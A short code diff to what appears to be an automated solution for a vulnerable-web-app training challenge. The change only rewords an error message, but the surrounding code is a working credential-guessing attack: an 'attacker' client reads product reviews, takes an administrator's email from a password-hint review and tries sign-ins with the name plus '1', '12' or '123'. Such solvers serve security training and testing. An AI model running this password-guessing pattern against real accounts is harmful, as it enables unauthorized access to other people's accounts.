@@ -10,7 +10,7 @@ export const proof = prove(challenge, {
     // "The name on my badge, and the first three numbers that children learn."
     const reviews: { author: string; message: string }[] = (await attacker.get('/rest/products/2/reviews')).json().data
     const review = reviews.find(({ message }) => message.includes('badge'))
-    if (!review) throw new Error('The administrator says nothing of a badge.')
+    if (!review) throw new Error("The administrator's review does not mention a badge.")
     const name = review.author.split('@')[0]
     for (const digits of ['', '1', '12', '123']) await signIn(attacker, review.author, `${name}${digits}`)
   },
